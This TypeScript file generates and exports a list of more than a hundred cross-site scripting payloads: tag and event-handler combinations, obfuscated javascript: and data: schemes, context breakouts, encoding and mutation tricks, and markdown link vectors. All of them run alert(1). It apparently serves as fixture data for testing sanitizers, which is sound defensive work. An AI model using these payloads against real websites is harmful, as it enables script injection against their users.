const SCRIPT = 'alert(1)';

const TAGS = [
  'img',
  'svg',
  'body',
  'iframe',
  'video',
  'audio',
  'details',
  'input',
  'select',
  'marquee',
  'object',
  'math',
  'form',
  'a',
  'xss',
];
const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus autofocus',
  'ontoggle',
  'onmouseover',
  'onanimationstart',
  'onbeforetoggle',
];
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'vbscript:',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
];

const BREAKOUTS = [
  `<script>${SCRIPT}</script>`,
  `<SCRIPT SRC=//127.0.0.1/x.js></SCRIPT>`,
  `<scr<script>ipt>${SCRIPT}</scr</script>ipt>`,
  `<script/x>${SCRIPT}</script>`,
  `</script><script>${SCRIPT}</script>`,
  `</title><script>${SCRIPT}</script>`,
  `</textarea><script>${SCRIPT}</script>`,
  `</style><script>${SCRIPT}</script>`,
  `--><script>${SCRIPT}</script>`,
  `]]><script>${SCRIPT}</script>`,
  `"><script>${SCRIPT}</script>`,
  `'><script>${SCRIPT}</script>`,
  `" onmouseover="${SCRIPT}`,
  `' onmouseover='${SCRIPT}`,
  `\` onmouseover=\`${SCRIPT}`,
  `\\"-${SCRIPT}//`,
  `\u2028${SCRIPT}\u2029`,
  `<!--<img src="--><img src=x onerror=${SCRIPT}//">`,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SCRIPT}&gt;">`,
  `<svg><style><img src=x onerror=${SCRIPT}></style></svg>`,
  `<style>@import 'http://127.0.0.1/x.css';</style>`,
  `<p style="background:url(javascript:${SCRIPT})">`,
  `<link rel=stylesheet href="javascript:${SCRIPT}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${SCRIPT}">`,
  `<base href="javascript:/a/../">`,
  `<iframe srcdoc="<script>${SCRIPT}</script>"></iframe>`,
  `<template><script>${SCRIPT}</script></template>`,
  `<button formaction="javascript:${SCRIPT}">x</button>`,
  `&lt;script&gt;${SCRIPT}&lt;/script&gt;`,
  `&#60;script&#62;${SCRIPT}&#60;/script&#62;`,
  `\uff1cscript\uff1e${SCRIPT}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${SCRIPT}+ADw-/script+AD4-`,
  `{{constructor.constructor('${SCRIPT}')()}}`,
];

const MARKDOWN = [
  (url: string) => `[a link](${url}alert(1))`,
  (url: string) => `![an image](${url}alert(1))`,
  (url: string) => `<${url.trim()}alert(1)>`,
];

/** More than a hundred texts that run a script where somebody pastes them into a page. Generated from a few ideas. */
export const XSS: string[] = [
  ...BREAKOUTS,
  ...TAGS.flatMap((tag, index) => {
    const handler = HANDLERS[index % HANDLERS.length];
    return [`<${tag} src=x href=x ${handler}=${SCRIPT}>`, `<${tag}/${handler}="${SCRIPT}"/src=x>`];
  }),
  ...SCHEMES.flatMap((scheme) => MARKDOWN.map((write) => write(scheme))),
  ...SCHEMES.map((scheme) => `<a href="${scheme}${SCRIPT}">x</a>`),
  ...HANDLERS.map((handler) => `[a](https://example.org/"${handler}="${SCRIPT})`),
];
